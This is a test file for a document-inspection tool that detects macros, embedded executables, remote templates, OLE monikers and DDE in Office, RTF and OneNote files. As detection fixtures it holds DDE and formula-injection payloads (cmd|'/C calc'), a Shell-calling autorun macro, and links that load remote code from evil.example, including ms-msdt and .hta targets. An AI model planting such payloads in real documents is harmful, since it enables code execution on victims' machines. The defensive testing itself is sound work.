import { deflateSync } from 'node:zlib';

import { compressVba, encryptedOfficeDocument, HARMLESS_MACRO, officeDocument, ole, oldWordDocument, vbaProject } from '@postern/samples';
import { describe, expect, it } from 'vitest';

import { unlimitedMeter } from '../looking/meter.js';
import { identify } from '../types/identify.js';
import { inspect } from '../inspect.js';
import { readWorkbook } from './biff.js';
import { decompressVba } from './ms-ovba.js';
import { openOle } from './ole-file.js';
import { oleObjects } from './ole-objects.js';
import { readVba } from './vba-project.js';

const look = (bytes: Buffer) => inspect(bytes, identify(bytes));
const codes = (bytes: Buffer) => look(bytes).findings.map((finding) => finding.code);
const record = (type: number, data: Buffer) => {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(data.length, 2);
  return Buffer.concat([head, data]);
};
const sheet = (kind: number) => record(0x85, Buffer.from([0, 0, 0, 0, 0, kind, 3, 0, 65, 66, 67]));

describe('the compression of VBA', () => {
  it('gives what the specification says (MS-OVBA 3.2.2)', () => {
    const packed = '012fb00023616161626364658266007061676869 6a01380861 6b6c00306d6e6f70067102700410 7273747576107778797a003c';
    expect(decompressVba(Buffer.from(packed.replaceAll(' ', ''), 'hex'), unlimitedMeter())?.toString()).toBe(
      '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
    );
  });

  it('survives what is cut off or wrong', () => {
    const packed = compressVba(Buffer.from('Sub Hello()\r\nEnd Sub\r\n'));
    for (let cut = 0; cut < packed.length; cut++) expect(() => decompressVba(packed.subarray(0, cut), unlimitedMeter())).not.toThrow();
    expect(decompressVba(Buffer.from([2, 1, 1]), unlimitedMeter())).toBeUndefined();
    expect(decompressVba(Buffer.from('0103b0ffffff', 'hex'), unlimitedMeter())).toBeDefined();
  });
});

describe('a compound file', () => {
  const streams = [
    { path: 'WordDocument', bytes: Buffer.alloc(9000, 'w') },
    { path: 'Pool/_1/Small', bytes: Buffer.from('small') },
    { path: 'Pool/_1/Empty', bytes: Buffer.alloc(0) },
  ];
  const entryOf = (bytes: Buffer, name: string) => bytes.indexOf(Buffer.from(`${name}\0`, 'utf16le'));

  it('gives its streams with their paths', () => {
    const file = openOle(ole(streams));
    expect(file?.streams.map(({ path, bytes }) => [path, bytes.length]).toSorted()).toEqual([
      ['Pool/_1/Empty', 0],
      ['Pool/_1/Small', 5],
      ['WordDocument', 9000],
    ]);
    expect(file?.storages.toSorted()).toEqual(['Pool', 'Pool/_1']);
  });

  it('gives a stream that no storage leads to', () => {
    const bytes = ole(streams);
    bytes.writeInt32LE(-1, entryOf(bytes, '_1') + 76);
    expect(openOle(bytes)?.streams.map(({ path }) => path)).toContain('Small');
  });

  it('gives what there is of one that is cut off', () => {
    const whole = ole([...streams, { path: 'Last', bytes: Buffer.alloc(9000, 'l') }]);
    const file = openOle(whole.subarray(0, whole.length - 700));
    expect(file === undefined || file.streams.length <= 4).toBe(true);
  });

  it('ends where a chain comes back to its beginning', () => {
    const bytes = ole(streams);
    const table = bytes.length - 512;
    const first = bytes.readInt32LE(entryOf(bytes, 'WordDocument') + 116);
    for (let sector = first; ; ) {
      const next = bytes.readInt32LE(table + 4 * sector);
      if (next < 0) {
        bytes.writeInt32LE(first, table + 4 * sector);
        break;
      }
      sector = next;
    }
    bytes.writeUInt32LE(0x7fffffff, entryOf(bytes, 'WordDocument') + 120);
    const stream = openOle(bytes)?.streams.find(({ path }) => path === 'WordDocument');
    expect(stream?.bytes.length).toBeLessThanOrEqual(bytes.length + 512);
  });
});

describe('a VBA project', () => {
  it('gives the sources of its modules', () => {
    const file = openOle(vbaProject([{ name: 'ThisDocument', source: 'Sub AutoOpen()\r\nEnd Sub\r\n' }, ...HARMLESS_MACRO]));
    const vba = file === undefined ? undefined : readVba(file, unlimitedMeter());
    expect(vba).toMatchObject({ present: true, stomped: false });
    expect(vba?.modules.map((module) => module.name)).toEqual(['ThisDocument', 'Module1']);
    expect(vba?.modules[0]?.source).toContain('Sub AutoOpen()');
  });

  it('is there also when its source was taken away', () => {
    const bytes = ole([
      { path: 'VBA/dir', bytes: compressVba(Buffer.alloc(20)) },
      { path: 'VBA/Module1', bytes: Buffer.alloc(600, 3) },
    ]);
    expect(look(bytes)).toMatchObject({ macros: true });
  });

  it('is found in documents of all kinds, its sources as files', () => {
    for (const bytes of [oldWordDocument({ macros: HARMLESS_MACRO }), vbaProject(HARMLESS_MACRO)]) {
      expect(look(bytes)).toMatchObject({ macros: true });
      expect(look(bytes).embedded).toEqual([expect.objectContaining({ name: 'Module1.bas', types: ['vba-source', 'txt'] })]);
    }
    expect(look(officeDocument({ kind: 'docm', macros: HARMLESS_MACRO })).macros).toBe(true);
    expect(look(officeDocument({ kind: 'docx' })).macros).toBe(false);
    expect(look(oldWordDocument({})).macros).toBe(false);
  });

  it('tells what its code would do', () => {
    const bad = vbaProject([{ name: 'M', source: 'Sub Workbook_Open()\r\nShell "cmd /c x"\r\nEnd Sub' }]);
    expect(codes(bad)).toEqual(expect.arrayContaining(['DOC_MACROS', 'DOC_MACROS_AUTO', 'DOC_MACROS_SUSPICIOUS']));
    expect(codes(vbaProject(HARMLESS_MACRO))).toEqual(['DOC_MACROS']);
  });

  it('is assumed in a compound file that nobody can read but that names one', () => {
    const broken = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600, 255),
      Buffer.from('_VBA_PROJECT', 'utf16le'),
      Buffer.alloc(600),
    ]);
    expect(inspect(broken, ['ole'])).toMatchObject({ macros: true, findings: expect.arrayContaining([{ code: 'OLE_MALFORMED', evidence: '' }]) });
  });
});

describe('an Excel workbook', () => {
  it('has macro sheets of Excel 4', () => {
    expect(readWorkbook(Buffer.concat([sheet(0), sheet(1), sheet(1), record(0x0a, Buffer.alloc(0))]), unlimitedMeter())).toEqual({
      macroSheets: 2,
      pass: undefined,
      dde: '',
    });
    const bytes = ole([{ path: 'Workbook', bytes: Buffer.concat([sheet(1), record(0x0a, Buffer.alloc(0)), Buffer.alloc(200)]) }]);
    expect(codes(bytes)).toContain('DOC_XLM');
    expect(look(bytes).macros).toBe(true);
  });

  it('is encrypted when it has a FILEPASS record', () => {
    const bytes = ole([{ path: 'Workbook', bytes: Buffer.concat([record(0x2f, Buffer.alloc(6)), sheet(0)]) }]);
    expect(look(bytes).encrypted).toBe(true);
  });

  it('has macro sheets also as a package', () => {
    const bytes = officeDocument({ kind: 'xlsx', extra: [{ name: 'xl/macrosheets/sheet1.xml', bytes: Buffer.from('<a/>') }] });
    expect(look(bytes)).toMatchObject({ macros: true });
  });
});

describe('an encrypted document', () => {
  it.each([
    ['a package', encryptedOfficeDocument()],
    ['an old Word document', oldWordDocument({ encrypted: true })],
    [
      'an old presentation',
      ole([
        { path: 'Current User', bytes: Buffer.from('140000005f c0 91 e3 df c4 d1 f3 00000000'.replaceAll(' ', '').padStart(48, '0'), 'hex') },
        { path: 'EncryptedSummary', bytes: Buffer.alloc(10, 1) },
      ]),
    ],
  ])('is told: %s', (_what, bytes) => {
    expect(look(bytes).encrypted).toBe(true);
  });
});

describe('what a document embeds', () => {
  const packaged = (name: string, content: Buffer) => {
    const head = Buffer.concat([
      Buffer.alloc(4),
      Buffer.from([2, 0]),
      Buffer.from(`${name}\0C:\\temp\\${name}\0`),
      Buffer.from([0, 0, 3, 0, 4, 0, 0, 0]),
      Buffer.from('C:\\\0'),
    ]);
    const size = Buffer.alloc(4);
    size.writeUInt32LE(content.length);
    return Buffer.concat([head, size, content]);
  };

  it('is a file packed as an object, with its name', () => {
    const bytes = ole([
      { path: 'WordDocument', bytes: Buffer.alloc(100) },
      { path: 'ObjectPool/_1/\x01Ole10Native', bytes: packaged('evil.exe', Buffer.from('MZ content')) },
    ]);
    expect(look(bytes).embedded).toEqual([{ name: 'evil.exe', bytes: Buffer.from('MZ content') }]);
    expect(codes(bytes)).toContain('DOC_OBJECT');
  });

  it('is a compressed storage of a presentation', () => {
    const storage = vbaProject(HARMLESS_MACRO);
    const packed = deflateSync(storage);
    const head = Buffer.alloc(12);
    head.writeUInt16LE(0x10, 0);
    head.writeUInt16LE(0x1011, 2);
    head.writeUInt32LE(packed.length + 4, 4);
    head.writeUInt32LE(storage.length, 8);
    const container = Buffer.alloc(8);
    container.writeUInt16LE(0x0f, 0);
    container.writeUInt16LE(0x03e8, 2);
    container.writeUInt32LE(packed.length + 12, 4);
    const bytes = ole([{ path: 'PowerPoint Document', bytes: Buffer.concat([container, head, packed]) }]);
    expect(look(bytes).embedded.some((file) => file.bytes.equals(storage))).toBe(true);
  });

  it('is an attachment of an Outlook message', () => {
    const bytes = ole([
      { path: '__properties_version1.0', bytes: Buffer.alloc(32) },
      { path: '__attach_version1.0_#00000000/__substg1.0_37010102', bytes: Buffer.from('content') },
      { path: '__attach_version1.0_#00000000/__substg1.0_3707001F', bytes: Buffer.from('name.txt', 'utf16le') },
    ]);
    expect(identify(bytes)[0]).toBe('msg');
    expect(look(bytes).embedded).toEqual([{ name: 'name.txt', bytes: Buffer.from('content') }]);
  });

  it('is an object of a rich text, however its digits are hidden', () => {
    const content = Buffer.from('MZ this is a program');
    const native = packaged('evil.exe', content).subarray(4);
    const u32 = (value: number) => {
      const raw = Buffer.alloc(4);
      raw.writeUInt32LE(value);
      return raw;
    };
    const object = Buffer.concat([u32(0x501), u32(2), u32(8), Buffer.from('Package\0'), u32(0), u32(0), u32(native.length), native]).toString('hex');
    const hidden = object.replace(/(.{20})/g, '$1\r\n \\par{\\*\\x}');
    for (const digits of [object, hidden]) {
      const bytes = Buffer.from(`{\\rtf1{\\object\\objemb{\\*\\objdata ${digits}}}}`);
      expect(look(bytes).embedded).toEqual([{ name: 'evil.exe', bytes: content }]);
    }
  });

  it('is a file of OneNote', () => {
    const size = Buffer.alloc(20);
    size.writeBigUInt64LE(7n);
    const bytes = Buffer.concat([
      Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
      Buffer.alloc(64),
      Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
      size,
      Buffer.from('content'),
      Buffer.alloc(30),
    ]);
    expect(look(bytes).embedded).toEqual([{ name: 'embedded-1', bytes: Buffer.from('content') }]);
  });

  it('does not fail on an empty or short object', () => {
    expect(
      oleObjects({ streams: [{ path: '\x01Ole10Native', bytes: Buffer.alloc(3) }], storages: [], rootClass: '' }, unlimitedMeter()),
    ).toHaveLength(1);
  });
});

describe('what a document loads or starts', () => {
  const relation = (type: string, target: string) =>
    officeDocument({
      kind: 'docx',
      extra: [
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: Buffer.from(
            `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
          ),
        },
      ],
    });

  it('is a template from elsewhere, but no link that a reader may click', () => {
    expect(codes(relation('attachedTemplate', 'https://evil.example/a.dotm'))).toContain('DOC_EXTERNAL');
    expect(codes(relation('oleObject', 'mhtml:http://evil.example/x'))).toContain('DOC_EXTERNAL');
    expect(codes(relation('hyperlink', 'https://shop.example/'))).toEqual([]);
  });

  it.each([
    'mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html',
    'ms-msdt:/id',
    'search-ms:query=a',
    'mk:@MSITStore:a',
    'script:https://a',
  ])('is a program of Windows that a target names: %s', (target) => {
    for (const type of ['oleObject', 'attachedTemplate', 'hyperlink', 'image']) expect(look(relation(type, target)).macros).toBe(true);
  });

  it.each([
    ['URL', 'e0c9ea79f9bace118c8200aa004ba90b'],
    ['script', 'd30b2906aa48d2118432006008c3fbfc'],
    ['SOAP', 'c7b0abec197fd211978e0000f8757e2a'],
  ])('is an object that is linked by a moniker, in any document: %s', (name, id) => {
    const address = Buffer.from('https://evil.example/a.hta\0', 'utf16le');
    const link = Buffer.concat([
      Buffer.from('0100000202000000', 'hex'),
      Buffer.alloc(16),
      Buffer.from(id, 'hex'),
      Buffer.from([address.length, 0, 0, 0]),
      address,
    ]);
    const linked = ole([{ path: '\x01Ole', bytes: link }]);
    const stored = Buffer.concat([Buffer.from('0105000002000000', 'hex'), Buffer.from([9, 0, 0, 0]), Buffer.from('OLE2Link\0'), Buffer.alloc(8)]);
    const size = Buffer.from(Uint32Array.of(linked.length).buffer);
    const rtf = look(Buffer.from(`{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata ${Buffer.concat([stored, size, linked]).toString('hex')}}}}`));
    for (const bytes of [
      linked,
      ole([
        { path: 'WordDocument', bytes: Buffer.alloc(1024) },
        { path: 'ObjectPool/_1/\x01Ole', bytes: link },
      ]),
      rtf.embedded[0]?.bytes,
    ]) {
      const seen = look(bytes ?? Buffer.alloc(0));
      expect(seen.macros).toBe(true);
      expect(seen.findings.find(({ code }) => code === 'DOC_PROGRAM')?.evidence).toBe(`${name} moniker https://evil.example/a.hta`);
    }
  });

  it('is no link to a file', () => {
    const file = Buffer.concat([
      Buffer.from('0100000202000000', 'hex'),
      Buffer.alloc(16),
      Buffer.from('0303000000000000c000000000000046', 'hex'),
      Buffer.alloc(60),
    ]);
    expect(look(ole([{ path: '\x01Ole', bytes: file }])).macros).toBe(false);
  });

  it('is the project of a database', () => {
    for (const encoding of ['latin1', 'utf16le'] as const) {
      const bytes = Buffer.concat([Buffer.from('\0\x01\0\0Standard ACE DB\0', 'latin1'), Buffer.alloc(4096), Buffer.from('VBAProject', encoding)]);
      expect(identify(bytes)).toEqual(['accdb']);
      expect(look(bytes).macros).toBe(true);
      expect(look(bytes.subarray(0, 4096)).macros).toBe(false);
    }
  });

  it('is a field or cell that starts a program', () => {
    const field = '<w:p><w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>';
    const word = officeDocument({ kind: 'docx', extra: [{ name: 'word/header1.xml', bytes: Buffer.from(field) }] });
    expect(codes(word)).toContain('DOC_DDE');
    const excel = officeDocument({
      kind: 'xlsx',
      extra: [{ name: 'xl/externalLinks/externalLink1.xml', bytes: Buffer.from('<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c calc"/>') }],
    });
    expect(codes(excel)).toContain('DOC_DDE');
  });

  it.each([
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "=10+20+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=1&cmd|'/C calc'!A0",
    "=IF(1,cmd|'/C calc'!A0)",
    "=notepad|'a.txt'!A0",
    "=  cmd | '/C calc'!A0",
    "=MSEXCEL|'\\..\\..\\a.exe'!A0",
    '=cmd|"/C calc"!A0',
  ])('is a cell in which a program is a service: %s', (cell) => {
    for (const line of [`${cell},1`, `x;${cell}`, `"${cell}",x`, `1,2,${cell}`]) {
      const table = `name,value\n${line}\nx,2\n`;
      expect(codes(Buffer.from(table)), line).toContain('DOC_DDE');
      expect(codes(Buffer.from(`\ufeff${table}`, 'utf16le')), line).toContain('DOC_DDE');
    }
  });

  it.each([
    'a,=A1+B1,3',
    'a|b,c|d',
    "x,it's a|b,'c'!",
    '-1|2,3',
    'cmd|x,1',
    "see 'cmd|more',1",
    '=A1|B1,2',
    "=(a|'b'!=c)",
    '+cmd |= 1;',
    '-cmd || x',
  ])('is no cell of a table: %s', (line) => {
    expect(codes(Buffer.from(`name,value,sum\n${line}\nx,2,4\n`))).toEqual([]);
  });
});
